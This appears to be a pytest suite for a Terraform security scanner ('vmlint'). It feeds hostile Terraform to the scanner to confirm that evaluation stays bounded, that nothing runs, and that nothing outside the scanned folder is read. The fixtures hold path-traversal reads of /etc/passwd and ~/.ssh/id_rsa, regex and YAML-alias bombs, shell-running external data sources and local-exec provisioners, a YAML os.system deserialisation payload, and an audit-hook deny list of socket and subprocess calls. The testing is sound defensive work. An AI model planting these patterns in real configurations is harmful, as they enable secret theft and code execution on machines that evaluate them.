"""Hostile Terraform: bounded, told with its reason, and the rest of the scan goes on. Nothing is run, nothing
outside the root is read."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Outcome
from vmlint.evaluation.terraform import modules
from vmlint.files import Files
from vmlint.model.fact import Known, Unknown
from vmlint.model.value import Unresolved
from vmlint.sources import terraform
from vmlint.sources.reading import Surroundings, Unit

Run = Callable[..., Outcome]

GOOD = 'resource "docker_container" "good" {\n  name  = "good"\n  image = "nginx:1.27"\n}\n'


def container(image: str, more: str = "") -> str:
    return f'resource "docker_container" "bad" {{\n  name  = "bad"\n  image = {image}\n{more}}}\n'


LONG = 'join("", [for i in range(1000) : "a"])'
MANY = 'flatten([for a in range(100) : [for b in range(100) : "${a}-${b}"]])'
TABLE = "\n".join(f"locals {{ l{at} = [local.l{at + 1}, local.l{at + 1}] }}" for at in range(60))
DOUBLED = "\n".join(f'locals {{ t{at + 1} = "${{local.t{at}}}${{local.t{at}}}" }}' for at in range(40))

# What is written -> what `why` tells of it.
BOUNDED = {
    "a local that refers to itself": ("locals { a = local.a }\n" + container("local.a"), "refers to itself"),
    "locals in a circle": (
        "locals {\n  a = local.b\n  b = local.a\n}\n" + container("local.a"),
        "refers to itself",
    ),
    "a resource that refers to itself": (container("docker_container.bad.image"), "refers to itself"),
    "a chain of a thousand locals": (
        "\n".join(f"locals {{ l{at} = local.l{at + 1} }}" for at in range(1000)) + container("local.l0"),
        "chain of references is too long",
    ),
    "for_each over a million": (
        container(
            "each.key",
            '  for_each = toset(flatten([for a in range(1000) : [for b in range(1000) : "${a}-${b}"]]))\n',
        ),
        "more members than are allowed",
    ),
    "for_each over many keys": (
        container("each.key", f"  for_each = toset({MANY})\n"),
        "more keys than are looked at",
    ),
    "range(1e9)": (container("[for i in range(1e9) : i][0]"), "more than 1024 numbers"),
    "a million digits": (container('"n${pow(10, 1000000)}"'), "out of range"),
    "a format of a gigabyte": (container('format("%1000000000d", 5)'), "width of the format is too large"),
    "a regular expression that explodes": (container(f'regex("(a+)+$", "${{{LONG}}}!")'), "could take too long"),
    "a replacement that explodes": (container(f'replace("${{{LONG}}}!", "/(a|aa)+$/", "")'), "could take too long"),
    "eight stars": (
        container(f'regexall("(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)x", {LONG})[0][0]'),
        "could take too long",
    ),
    "counted repetitions": (container(f'regex("(a{{1,1000}}){{1,1000}}b", {LONG})'), "could take too long"),
    "texts that double": (
        f"locals {{ t0 = {LONG} }}\n{DOUBLED}\n" + container("local.t40"),
        "the text is too long",
    ),
    "a text put into itself": (
        f"locals {{ t = {LONG} }}\n" + container('replace(replace(local.t, "a", local.t), "a", local.t)'),
        "the text is too long",
    ),
    "trees that double": (TABLE + '\nlocals { l60 = "x" }\n' + container("jsonencode(local.l0)"), "is too large"),
    "each with each": (
        f"locals {{ l = {MANY} }}\n" + container('"n${length([for x in local.l : x if contains(local.l, x)])}"'),
        "more steps than are allowed",
    ),
    "objects compared with objects": (
        f"locals {{ l = {MANY} }}\n" + container('"n${length(distinct([for x in local.l : [x]]))}"'),
        "more members than are compared",
    ),
    "a template that includes itself": (container('templatefile("self.tpl", {})'), "nested too deeply"),
    "a bomb of aliases": (container('yamldecode(file("bomb.yaml")).h'), "nodes"),
    "a JSON of a million members": (container('jsondecode(file("big.json"))[5]'), "the value is too large"),
    "a file of the system": (container('file("/etc/passwd")'), "lies outside the scanned folder"),
    "a file above": (container('file("../../../../../../../../../../etc/passwd")'), "outside the scanned folder"),
    "a file of the user's home": (container('file("~/.ssh/id_rsa")'), "depends on the user's home"),
    "a link out of the root": (container('file("leads-out")'), "lies outside the scanned folder"),
    "a template out of the root": (container('templatefile("leads-out", {})'), "lies outside the scanned folder"),
}


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "self.tpl").write_text('${templatefile("self.tpl", {})}')
    (tmp_path / "big.json").write_text("[" + "1," * 1_000_000 + "1]")
    (tmp_path / "bomb.yaml").write_text(
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(10))
    )
    (tmp_path / "leads-out").symlink_to("/etc/passwd")
    (tmp_path / "beside").mkdir()
    (tmp_path / "beside" / "main.tf").write_text(GOOD)
    return tmp_path


@pytest.mark.parametrize("name", BOUNDED)
def test_it_is_bounded_and_told(tree: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.chdir(tree)
    text, told = BOUNDED[name]
    (tree / "main.tf").write_text(text + GOOD)
    started = time.perf_counter()
    found = terraform.read(Unit("terraform", (".",)), Surroundings(Files(".")))
    images = {w.name: w.containers[0].image for w in found.workloads}
    assert found.problems == ()
    assert isinstance(images["good"], Known)
    (unknown,) = [image for image in images.values() if isinstance(image, Unknown)]
    assert told in unknown.reason
    assert time.perf_counter() - started < 30


# What is written -> the message at its place.
UNREADABLE = {
    "5,000 lists in one another": ("locals { a = " + "[" * 5000 + "]" * 5000 + " }\n", "nested more than"),
    "3,000 parentheses": ("locals { a = " + "(" * 3000 + "1" + ")" * 3000 + " }\n", "nested more than"),
    "2,000 templates in one another": (
        "locals { a = " + '"${' * 2000 + "1" + '}"' * 2000 + " }\n",
        "nested too deeply",
    ),
    "5,000 blocks in one another": (
        'resource "docker_container" "b" ' + "{ b " * 5000 + "{}" + "}" * 5000 + "\n",
        "nested more than",
    ),
    "a number of a hundred million digits": ("locals { a = 1e99999999 }\n", "exponent is too large"),
    "a million quotes": (
        'locals { a = "' + '\\"' * 500_000 + '" }\n' + '"' * 500_001 + "\n",
        "a block is expected",
    ),
    "a module that calls itself": ('module "a" { source = "./" }\n', "calls itself"),
    "a million brackets": ("locals { a = " + "[" * 1_000_000, "is not closed"),
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_it_is_refused_at_its_place(vmlint: Run, tree: Path, name: str) -> None:
    text, message = UNREADABLE[name]
    (tree / "main.tf").write_text(GOOD + 'locals { image = "x" }\n' + container("local.a") + text)
    started = time.perf_counter()
    report = json.loads(vmlint("scan", "--format", "json", "--jobs", "1", ".").out)
    assert message in " ".join(told["message"] for told in report["unreadable"])
    assert {w["file"] for w in report["workloads"]} >= {"main.tf", "beside/main.tf"}
    assert "docker_container.good" in {w["address"] for w in report["workloads"]}
    assert time.perf_counter() - started < 30


def test_links_out_of_the_root_are_no_configuration(vmlint: Run, tree: Path) -> None:
    (tree / "main.tf").write_text(
        GOOD + 'module "out" { source = "./leads-away" }\nmodule "up" { source = "../.." }\n'
    )
    (tree / "evil.tf").symlink_to("/etc/passwd")
    (tree / "leads-away").symlink_to("/etc")
    done = vmlint("scan", "--format", "json", "--show-undecided", ".")
    report = json.loads(done.out)
    assert [(told["file"], told["message"]) for told in report["unreadable"]] == [
        ("evil.tf", "it lies outside the scanned folder")
    ]
    assert {told["unknown"] for told in report["undecided"]} == {"module.out", "module.up"}
    assert done.code == 3


def test_dynamic_blocks_that_multiply(vmlint: Run, tree: Path) -> None:
    inner = 'dynamic "c" {\n for_each = range(1000)\n content { x = c.value }\n}\n'
    middle = f'dynamic "b" {{\n for_each = range(1000)\n content {{\n{inner}}}\n}}\n'
    outer = f'dynamic "a" {{\n for_each = range(1000)\n content {{\n{middle}}}\n}}\n'
    (tree / "main.tf").write_text(container('"redis:7"', outer) + GOOD)
    started = time.perf_counter()
    report = json.loads(vmlint("scan", "--format", "json", ".").out)
    assert len(report["workloads"]) == 3
    missing = vmlint("eval", "docker_container.bad.a")
    assert missing.code == 1
    assert time.perf_counter() - started < 20


def test_instances_that_multiply(vmlint: Run, tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Keys of a module times keys of a resource."""
    monkeypatch.setattr(modules, "MAX_INSTANCES", 200)
    keys = 'toset([for i in range(30) : "k${i}"])'
    (tree / "m").mkdir()
    (tree / "m" / "main.tf").write_text(container("each.key", f"  for_each = {keys}\n"))
    (tree / "main.tf").write_text(f'module "m" {{\n  source = "./m"\n  for_each = {keys}\n}}\n' + GOOD)
    report = json.loads(vmlint("scan", "--format", "json", ".").out)
    assert [told["message"] for told in report["unreadable"]] == ["the module has more than 200 resource instances"]
    assert {"docker_container.good"} <= {w["address"] for w in report["workloads"]}


AUDIT = """
import os, sys
tree, outside = sys.argv[1:3]
bad = []
RUN = ("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "urllib.",
       "ctypes.", "http.", "ftplib.", "smtplib.", "pty.", "webbrowser.", "shutil.", "tempfile.", "os.remove",
       "os.rename", "os.mkdir")
def hook(event, args):
    if event.startswith(RUN):
        bad.append((event, args))
    if event in ("exec", "compile") and tree in repr(args):
        bad.append((event, args))
    if event in ("open", "os.listdir", "os.scandir") and isinstance(args[0], str):
        real = os.path.realpath(args[0])
        if real.startswith((outside, "/etc/passwd", "/etc/shadow")) or real in ("/etc", "/root", "/"):
            bad.append((event, args[0]))
        if event == "open" and real.startswith(tree) and args[1] not in ("r", "rb", None):
            bad.append((event, args))
sys.addaudithook(hook)
from vmlint.cli import cli
for command in (["scan", "--jobs", "1", "--strict", "--format", "json", "."], ["why", "docker_container.bad", "."],
                ["eval", "local.all"]):
    try:
        cli(command, standalone_mode=False)
    except SystemExit:
        pass
sys.stderr.write("\\nBAD " + repr(bad))
"""

ESCAPES = """
terraform {
  backend "s3" { bucket = "b" }
  required_providers {
    evil = { source = "evil.example.com/evil/evil" }
  }
}
provider "evil" { endpoint = "http://127.0.0.1:1/" }
data "external" "x" { program = ["sh", "-c", "touch ran"] }
data "http" "x" { url = "http://127.0.0.1:1/" }
data "terraform_remote_state" "x" {
  backend = "local"
  config  = { path = "../outside/terraform.tfstate" }
}
module "git" { source = "git::https://127.0.0.1:1/m.git" }
module "registry" { source = "127.0.0.1/a/b/c" }
module "above" { source = "../outside" }
module "linked" { source = "./linked" }
locals {
  all = [
    try(file("../outside/secret.txt"), 1), try(file("linked/secret.txt"), 1), try(filebase64("link.txt"), 1),
    try(templatefile("../outside/secret.txt", {}), 1), try(filesha256("../outside/secret.txt"), 1),
    try(fileset("../outside", "**"), 1), try(fileset(".", "../outside/*"), 1), try(fileset(".", "linked/*"), 1),
    fileexists("../outside/secret.txt"), try(file("/etc/passwd"), 1), try(file(pathexpand("~/.bashrc")), 1),
    try(yamldecode("!!python/object/apply:os.system ['touch ran']"), 1),
    try(provider::evil::run("touch ran"), 1), try(templatestring("$${file(\\"../outside/secret.txt\\")}", {}), 1),
  ]
}
resource "docker_container" "bad" {
  name    = "bad"
  image   = "nginx:${data.external.x.result.a}"
  command = [for x in local.all : jsonencode(x)]
  provisioner "local-exec" { command = "touch ran" }
  provisioner "local-exec" {
    when        = destroy
    interpreter = ["python3", "-c"]
    command     = "open('ran', 'w')"
  }
}
"""


def test_nothing_is_run_and_nothing_outside_is_read(tmp_path: Path) -> None:
    outside, tree = tmp_path / "outside", tmp_path / "tree"
    outside.mkdir()
    tree.mkdir()
    for name in ("secret.txt", "main.tf", "terraform.tfstate"):
        (outside / name).write_text(GOOD)
    (tree / "linked").symlink_to(outside)
    (tree / "link.txt").symlink_to(outside / "secret.txt")
    (tree / "link.tf").symlink_to(outside / "main.tf")
    (tree / "more.auto.tfvars").symlink_to(outside / "secret.txt")
    (tree / "main.tf").write_text(ESCAPES)
    (tree / ".terraform" / "modules").mkdir(parents=True)
    (tree / ".terraform" / "modules" / "modules.json").write_text(
        json.dumps({"Modules": [{"Key": "registry", "Source": "x", "Dir": "../outside"}]})
    )
    (tree / "sitecustomize.py").write_text("raise SystemExit(99)\n")
    environment = {**os.environ, "HOME": str(outside)}
    before = sorted(path.name for path in tree.rglob("*"))
    done = subprocess.run(
        [sys.executable, "-c", AUDIT, str(tree), str(outside)],
        cwd=tree, env=environment, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.stderr.rpartition("\nBAD ")[2] == "[]", done.stderr[-3000:]
    assert sorted(path.name for path in tree.rglob("*")) == before
    assert '"docker_container.bad"' in done.stdout
    assert "docker_container.good" not in done.stdout


def test_instances_that_name_each_other_are_not_followed_without_end(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(
        'resource "t" "a" {\n  count = 1000\n'
        '  x = "${t.a[(count.index * 7 + 3) % 8].x}${t.a[(count.index * 3 + 5) % 8].x}"\n}\n'
    )
    root = modules.load_root(str(tmp_path), Files(tmp_path))
    started = time.perf_counter()
    assert isinstance(modules.evaluate("t.a[7].x", root), Unresolved)
    assert time.perf_counter() - started < 5
